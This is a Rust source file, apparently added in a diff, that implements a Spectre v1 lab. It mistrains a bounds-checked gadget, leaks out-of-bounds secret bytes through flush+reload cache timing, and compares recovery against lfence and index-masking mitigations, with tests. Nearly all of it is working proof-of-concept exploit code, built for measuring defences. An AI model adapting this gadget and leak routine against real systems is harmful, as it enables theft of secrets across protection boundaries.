@@ -0,0 +1,299 @@
+//! Spectre v1 (bounds check bypass) lab.
+//!
+//! Trains a bounds-checked gadget with in-bounds indices, then calls it with
+//! an index that reaches a secret outside the array and recovers the byte
+//! the misspeculated load touched with flush+reload. Running the same attack
+//! against each mitigation shows which ones hold on the current CPU.
+
+use core::arch::x86_64::_mm_mfence;
+use core::ptr::{read_volatile, write_volatile};
+use std::fmt;
+
+use crate::arch;
+use crate::arch::barrier::{default_barrier, SpeculationBarrier};
+use crate::cache::flush_reload::{self, MonitorSet};
+
+const ARRAY1_LEN: usize = 16;
+const PROBE_STRIDE: usize = 4096;
+const DEFAULT_TRIES: usize = 200;
+const TRAINING_ROUNDS: usize = 30;
+
+/// How the gadget guards its out-of-bounds load.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Mitigation {
+    None,
+    /// `arch::barrier::default_barrier` between the bounds check and the
+    /// load: `lfence` unless `CT_MEMCMP_BARRIER` picks another.
+    Lfence,
+    /// Clamps the index with `arch::index_nospec`.
+    IndexMask,
+}
+
+impl Mitigation {
+    pub const ALL: [Mitigation; 3] = [Mitigation::None, Mitigation::Lfence, Mitigation::IndexMask];
+}
+
+/// `Lfence` is shown with the barrier actually in effect.
+impl fmt::Display for Mitigation {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Mitigation::Lfence => f.pad(&format!("Barrier({})", default_barrier())),
+            other => f.pad(&format!("{:?}", other)),
+        }
+    }
+}
+
+/// Victim state. `size` is read from memory and flushed before every
+/// attack call so the bounds check resolves late.
+#[repr(C, align(4096))]
+struct Victim {
+    size: usize,
+    _pad: [u8; 56],
+    array1: [u8; ARRAY1_LEN],
+}
+
+#[inline(never)]
+fn gadget_none(victim: &Victim, probe: *const u8, x: usize) -> u8 {
+    unsafe {
+        if x < read_volatile(&victim.size) {
+            let v = *victim.array1.as_ptr().add(x);
+            return read_volatile(probe.add(v as usize * PROBE_STRIDE));
+        }
+    }
+    0
+}
+
+#[inline(never)]
+fn gadget_lfence(victim: &Victim, probe: *const u8, x: usize) -> u8 {
+    let barrier = default_barrier();
+    unsafe {
+        if x < read_volatile(&victim.size) {
+            barrier.fence();
+            let v = *victim.array1.as_ptr().add(x);
+            return read_volatile(probe.add(v as usize * PROBE_STRIDE));
+        }
+    }
+    0
+}
+
+#[inline(never)]
+fn gadget_mask(victim: &Victim, probe: *const u8, x: usize) -> u8 {
+    unsafe {
+        let size = read_volatile(&victim.size);
+        if x < size {
+            let v = *victim.array1.as_ptr().add(arch::index_nospec(x, size));
+            return read_volatile(probe.add(v as usize * PROBE_STRIDE));
+        }
+    }
+    0
+}
+
+/// Recovery results for one mitigation.
+#[derive(Debug, Clone)]
+pub struct LabResult {
+    pub mitigation: Mitigation,
+    pub recovered: Vec<Option<u8>>,
+    pub correct: usize,
+}
+
+impl LabResult {
+    pub fn rate(&self) -> f64 {
+        if self.recovered.is_empty() {
+            return 0.0;
+        }
+        self.correct as f64 / self.recovered.len() as f64
+    }
+}
+
+#[derive(Debug, Clone)]
+pub struct LabReport {
+    pub threshold: u64,
+    pub results: Vec<LabResult>,
+}
+
+impl fmt::Display for LabReport {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        writeln!(f, "Cache hit threshold: {} cycles", self.threshold)?;
+        for r in &self.results {
+            writeln!(
+                f,
+                "{:<18} recovered {:>3}/{:<3} ({:5.1}%)",
+                r.mitigation,
+                r.correct,
+                r.recovered.len(),
+                r.rate() * 100.0
+            )?;
+        }
+        Ok(())
+    }
+}
+
+pub struct SpectreLab {
+    victim: Box<Victim>,
+    probe: Vec<u8>,
+    monitor: MonitorSet,
+    secret: Vec<u8>,
+    tries: usize,
+}
+
+impl SpectreLab {
+    pub fn new(secret: &[u8]) -> Self {
+        let mut victim = Box::new(Victim {
+            size: ARRAY1_LEN,
+            _pad: [0; 56],
+            array1: [0; ARRAY1_LEN],
+        });
+        for (i, b) in victim.array1.iter_mut().enumerate() {
+            *b = i as u8 + 1;
+        }
+        // Touch every probe line so none of them is backed by the shared
+        // zero page, which would make all slots hit together.
+        let probe = vec![1u8; 256 * PROBE_STRIDE];
+        let monitor = unsafe { MonitorSet::strided(probe.as_ptr(), PROBE_STRIDE, 256) };
+        Self {
+            victim,
+            probe,
+            monitor,
+            secret: secret.to_vec(),
+            tries: DEFAULT_TRIES,
+        }
+    }
+
+    pub fn with_tries(mut self, tries: usize) -> Self {
+        self.tries = tries;
+        self
+    }
+
+    pub fn threshold(&self) -> u64 {
+        self.monitor.threshold()
+    }
+
+    fn gadget(&self, mitigation: Mitigation) -> fn(&Victim, *const u8, usize) -> u8 {
+        match mitigation {
+            Mitigation::None => gadget_none,
+            Mitigation::Lfence => gadget_lfence,
+            Mitigation::IndexMask => gadget_mask,
+        }
+    }
+
+    /// Runs the attack for one byte at `x` (relative to `array1`) and
+    /// returns the most frequently hit probe slot, if any.
+    fn leak(&mut self, x: usize, mitigation: Mitigation) -> Option<u8> {
+        let gadget = self.gadget(mitigation);
+        let probe = self.probe.as_ptr();
+        let mut scores = [0u32; 256];
+
+        for attempt in 0..self.tries {
+            let training_x = attempt % ARRAY1_LEN;
+            self.monitor.flush_all();
+            for round in (0..TRAINING_ROUNDS).rev() {
+                unsafe {
+                    flush_reload::flush(&self.victim.size as *const usize as *const u8);
+                    _mm_mfence();
+                }
+                // Every sixth call is the attack; the select is branchless
+                // so the predictor only ever learns the gadget's branch.
+                let attack = ((round % 6) as isize - 1) as usize & !0xFFFF;
+                let attack = attack | (attack >> 16);
+                let call_x = training_x ^ (attack & (x ^ training_x));
+                core::hint::black_box(gadget(&self.victim, probe, call_x));
+            }
+
+            let trained = self.victim.array1[training_x];
+            for (slot, hit) in self.monitor.probe_hits().into_iter().enumerate() {
+                if hit && slot as u8 != trained {
+                    scores[slot] += 1;
+                }
+            }
+        }
+
+        let (best, &score) = scores.iter().enumerate().max_by_key(|&(_, s)| *s)?;
+        (score > 0).then_some(best as u8)
+    }
+
+    pub fn run(&mut self, mitigation: Mitigation) -> LabResult {
+        let base = self.victim.array1.as_ptr() as usize;
+        let secret = self.secret.as_ptr() as usize;
+        let mut recovered = Vec::with_capacity(self.secret.len());
+        for i in 0..self.secret.len() {
+            let x = secret.wrapping_sub(base).wrapping_add(i);
+            recovered.push(self.leak(x, mitigation));
+        }
+        let correct = recovered
+            .iter()
+            .zip(&self.secret)
+            .filter(|(r, s)| **r == Some(**s))
+            .count();
+        LabResult { mitigation, recovered, correct }
+    }
+
+    pub fn run_all(&mut self) -> LabReport {
+        let results = Mitigation::ALL.iter().map(|&m| self.run(m)).collect();
+        LabReport { threshold: self.threshold(), results }
+    }
+}
+
+impl Drop for SpectreLab {
+    fn drop(&mut self) {
+        for b in self.secret.iter_mut() {
+            unsafe { write_volatile(b, 0) };
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_calibrated_threshold_separates_hit_and_miss() {
+        let _timing = crate::cache::timing_lock();
+        let lab = SpectreLab::new(b"x");
+        let line = lab.probe.as_ptr();
+        let mut hits = 0;
+        for _ in 0..100 {
+            unsafe { read_volatile(line) };
+            hits += (lab.monitor.reload(0) <= lab.threshold()) as u32;
+        }
+        assert!(hits > 50, "threshold {} too low", lab.threshold());
+    }
+
+    #[test]
+    fn test_in_bounds_access_is_recovered() {
+        let _timing = crate::cache::timing_lock();
+        // An architectural (not speculative) load must always show up.
+        let mut lab = SpectreLab::new(b"x").with_tries(20);
+        let mut hits = 0;
+        for x in 1..4 {
+            hits += (lab.leak(x, Mitigation::None) == Some(lab.victim.array1[x])) as u32;
+        }
+        assert!(hits >= 2);
+    }
+
+    #[test]
+    fn test_report_covers_every_mitigation() {
+        let _timing = crate::cache::timing_lock();
+        let mut lab = SpectreLab::new(b"ab").with_tries(5);
+        let report = lab.run_all();
+        assert_eq!(report.results.len(), Mitigation::ALL.len());
+        for r in &report.results {
+            assert_eq!(r.recovered.len(), 2);
+            assert!((0.0..=1.0).contains(&r.rate()));
+        }
+        assert!(report.to_string().contains("IndexMask"));
+        assert!(report.to_string().contains(&format!("Barrier({})", default_barrier())));
+    }
+
+    #[test]
+    fn test_mask_leaks_less_than_unprotected() {
+        let _timing = crate::cache::timing_lock();
+        let mut lab = SpectreLab::new(b"Sq").with_tries(50);
+        let none = lab.run(Mitigation::None);
+        if none.correct == 0 {
+            // Nothing to mitigate: this CPU does not speculate past the check.
+            return;
+        }
+        let mask = lab.run(Mitigation::IndexMask);
+        assert!(none.correct > mask.correct, "{:?} vs {:?}", none.recovered, mask.recovered);
+    }
+}